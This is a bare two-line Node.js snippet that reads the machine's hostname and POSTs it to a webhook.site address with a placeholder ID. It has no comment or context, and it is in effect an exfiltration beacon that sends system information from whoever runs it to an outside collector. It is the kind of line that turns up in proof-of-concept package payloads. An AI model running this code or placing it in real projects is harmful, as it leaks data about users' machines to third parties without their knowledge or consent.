const os = require('os');
fetch('https://webhook.site/00000000-0000-4000-8000-000000000000', { method: 'POST', body: os.hostname() });
